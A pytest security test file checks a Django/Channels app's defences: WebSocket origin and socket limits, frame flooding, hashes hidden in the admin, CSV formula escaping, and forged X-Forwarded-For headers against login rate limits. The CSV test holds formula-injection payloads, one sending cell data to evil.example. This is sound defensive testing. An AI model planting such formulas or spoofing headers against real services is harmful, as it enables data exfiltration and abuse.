"""Finding 7, as an attacker meets it: origins by scheme and port, close codes under both servers,
a flooding client, a socket cap per user, hashes in the admin, formulas in CSV exports, and a
forged X-Forwarded-For against the per-IP login limit.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
import urllib.error
import urllib.request
import uuid
from typing import Any

import pytest
import websockets
from channels.db import database_sync_to_async
from django.contrib.auth import get_user_model
from django.test import Client

from mozaiks_core.auth.api_keys import create_api_key
from mozaiks_core.auth.invitations import invite_member
from mozaiks_core.auth.models import APIKey, Invitation, Membership
from mozaiks_core.runtime import services
from mozaiks_core.supervisor import expand
from tests.runtime.transport.conftest import Client as SocketClient
from tests.runtime.transport.conftest import new_chat, socket_path
from tests.runtime.transport.live import LiveSocket
from tests.security.test_websocket_origin import _handshake
from tests.support.processes import REPO_ROOT


def procfile_web_options() -> list[str]:
    """The Procfile's uvicorn options (host and port left out), expanded as the supervisor expands them."""
    line = next(line for line in (REPO_ROOT / "Procfile").read_text().splitlines() if line.startswith("web1:"))
    words = expand(line.split(":", 1)[1], {}).split()
    options, skip = [], False
    for word in words[2:]:
        if skip or word in {"--host", "--port"}:
            skip = not skip
            continue
        options.append(word)
    return options


# --- origin = scheme + host + port ------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
async def test_a_socket_from_the_same_host_on_another_port_or_scheme_is_refused_and_trusted_origins_pass(
        asgi_server: Any, alice: Any) -> None:
    server = await database_sync_to_async(asgi_server)(
        server="uvicorn", env={"CSRF_TRUSTED_ORIGINS": "https://app.example.com,https://*.tenant.example"})
    port = server.info["port"]
    chat = await database_sync_to_async(new_chat)(alice, "Chatter")
    url = f"{server.info['ws_url']}{await database_sync_to_async(socket_path)(chat)}"
    for foreign in ("http://127.0.0.1:1", f"https://127.0.0.1:{port}", "http://127.0.0.1", f"http://localhost:{port}1",
                    "https://evil.example", "http://app.example.com", "https://tenant.example.evil"):
        assert await _handshake(url, foreign) == 403, foreign
    for allowed in (f"http://127.0.0.1:{port}", "https://app.example.com", "https://a.tenant.example"):
        token = await database_sync_to_async(services.issue_chat_token)(chat)
        frame = await _handshake(url.split("?")[0] + f"?access_token={token}", allowed)
        assert isinstance(frame, dict), (allowed, frame)
        assert frame["type"] == "chat_meta"


# --- close codes under daphne and uvicorn ------------------------------------------------------


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("server_name", ["daphne", "uvicorn"])
async def test_a_refused_socket_closes_1008_with_its_reason_under_both_servers(
        asgi_server: Any, alice: Any, mallory: Any, server_name: str) -> None:
    server = await database_sync_to_async(asgi_server)(server=server_name)
    chat = await database_sync_to_async(new_chat)(alice, "Chatter")
    other = await database_sync_to_async(new_chat)(mallory, "Chatter")
    token = await database_sync_to_async(services.issue_chat_token)(other)
    path = await database_sync_to_async(services.websocket_path)(chat)
    intruder = await LiveSocket.open(f"{server.info['ws_url']}{path}?access_token={token}", server.info["url"])
    assert await intruder.closed_code() == 1008
    assert intruder.frames[0]["data"]["error_code"] == "CHAT_ACCESS_DENIED"
    await asyncio.sleep(0.3)
    assert "invalid close code" not in server.log()
    assert "Traceback" not in server.log()


# --- a flooding client --------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
async def test_a_client_flooding_frames_gets_one_rate_limit_reply_a_second_and_health_stays_fast(
        asgi_server: Any, alice: Any) -> None:
    server = await database_sync_to_async(asgi_server)(server="uvicorn")
    chat = await database_sync_to_async(new_chat)(alice, "Chatter")
    url = f"{server.info['ws_url']}{await database_sync_to_async(socket_path)(chat)}"
    async with websockets.connect(url, origin=server.info["url"], max_queue=None) as socket:
        await socket.recv()
        for _ in range(5000):
            await socket.send('{"type": "pong"}')
        replies: list[dict[str, Any]] = []
        started = time.monotonic()
        health: list[float] = []
        while time.monotonic() - started < 2.5:
            before = time.perf_counter()
            await asyncio.to_thread(lambda: urllib.request.urlopen(f"{server.info['url']}/health", timeout=10).read())
            health.append(time.perf_counter() - before)
            with contextlib.suppress(TimeoutError):
                replies.append(json.loads(await asyncio.wait_for(socket.recv(), 0.05)))
        limited = [frame for frame in replies if frame["data"].get("error_code") == "RATE_LIMITED"]
        assert 1 <= len(limited) <= 4, [frame["type"] for frame in replies]
        assert len(replies) <= 6, len(replies)  # 5,000 frames did not buy 5,000 answers
        assert max(health) < 0.5, health


# --- per-user socket cap -----------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
async def test_sockets_past_the_per_user_cap_close_4029_and_a_freed_slot_is_reusable(
        alice: Any, settings: Any) -> None:
    settings.MOZAIKS_WS_MAX_SOCKETS_PER_USER = 3
    chat = await database_sync_to_async(new_chat)(alice, "Chatter")
    clients = []
    for _ in range(3):
        client = SocketClient(await database_sync_to_async(socket_path)(chat))
        assert await client.connect()
        await client.until("chat_meta")
        clients.append(client)
    extra = SocketClient(await database_sync_to_async(socket_path)(chat))
    assert await extra.connect()
    refusal = await extra.next()
    assert refusal["data"]["error_code"] == "TOO_MANY_SOCKETS"
    assert "MOZAIKS_WS_MAX_SOCKETS_PER_USER" in refusal["data"]["message"]
    assert (await extra.next())["code"] == 4029
    await clients[0].close()
    await asyncio.sleep(0.1)
    again = SocketClient(await database_sync_to_async(socket_path)(chat))
    assert await again.connect()
    await again.until("chat_meta")
    for client in (*clients[1:], again):
        await client.close()


# --- admin never shows hashes ------------------------------------------------------------------


@pytest.mark.django_db
def test_admin_change_pages_of_api_keys_and_invitations_never_show_their_hashes() -> None:
    admin = get_user_model().objects.create_superuser("root", "root@example.com", "pw-123456789")
    owner = get_user_model().objects.create_user("own", "own@example.com", "pw-123456789")
    from mozaiks_core.auth.services import create_organization

    organization = create_organization(name="Hashes Inc", owner=owner)
    membership = Membership.objects.get(user=owner, organization=organization)
    key = APIKey.objects.get(pk=create_api_key(membership, name="ci", scopes=["read"]).api_key.pk)
    invite_member(membership, email=f"{uuid.uuid4().hex[:6]}@example.com")
    invitation = Invitation.objects.get(organization=organization)
    client = Client()
    client.force_login(admin)
    for url, secret in ((f"/admin/mozaiks_auth/apikey/{key.pk}/change/", key.key_hash),
                        (f"/admin/mozaiks_auth/invitation/{invitation.pk}/change/", invitation.token_hash)):
        page = client.get(url)
        assert page.status_code == 200, url
        assert secret not in page.content.decode(), url


# --- CSV formula injection ---------------------------------------------------------------------


@pytest.mark.django_db
def test_a_task_title_that_is_a_formula_is_exported_as_text() -> None:
    import csv
    import io

    user = get_user_model().objects.create_user(username="csv", email="csv@example.com", password="pw-123456789")
    client = Client()
    client.force_login(user)
    titles = ['=HYPERLINK("https://evil.example?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR",
              "Plain title"]
    for title in titles:
        response = client.post("/api/modules/tasks/create_task", json.dumps({"title": title}),
                               content_type="application/json")
        assert response.status_code == 200, response.content
    rows = list(csv.reader(io.StringIO(client.get("/api/modules/tasks/export.csv").content.decode())))
    exported = [row[1] for row in rows[1:]]
    assert exported == ["'" + title for title in titles[:-1]] + ["Plain title"], exported


# --- X-Forwarded-For only from trusted proxies -------------------------------------------------


def _login(base: str, email: str, forwarded_for: str) -> tuple[int, dict[str, Any]]:
    request = urllib.request.Request(
        f"{base}/_allauth/app/v1/auth/login", method="POST",
        data=json.dumps({"email": email, "password": "wrong-password-1"}).encode(),
        headers={"Content-Type": "application/json", "X-Forwarded-For": forwarded_for})
    try:
        with urllib.request.urlopen(request, timeout=15) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


def _codes(body: dict[str, Any]) -> set[str]:
    return {error.get("code", "") for error in body.get("errors", [])}


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_a_rotating_x_forwarded_for_from_an_untrusted_peer_does_not_escape_the_per_ip_login_limit(
        asgi_server: Any, session_tmp: Any) -> None:
    from tests.support.processes import child_environment, start_process, wait_for_http
    from tests.support.services import free_port

    port = free_port()
    command = [__import__("sys").executable, "-m", "uvicorn", "mozaiks_core.asgi:application", "--host", "127.0.0.1",
               "--port", str(port), *procfile_web_options()]
    process = start_process(command, child_environment({}), session_tmp / f"procfile-uvicorn-{port}.log")
    try:
        wait_for_http(f"http://127.0.0.1:{port}/health", process)
        answers = [_login(f"http://127.0.0.1:{port}", f"victim{n}@example.com", f"203.0.113.{n}") for n in range(14)]
    finally:
        process.stop()
    limited = [status for status, body in answers if "too_many_login_attempts" in _codes(body)]
    assert limited, [(status, _codes(body)) for status, body in answers]
    assert set(limited) == {400}  # allauth headless answers 400 too_many_login_attempts (docs/security.md)
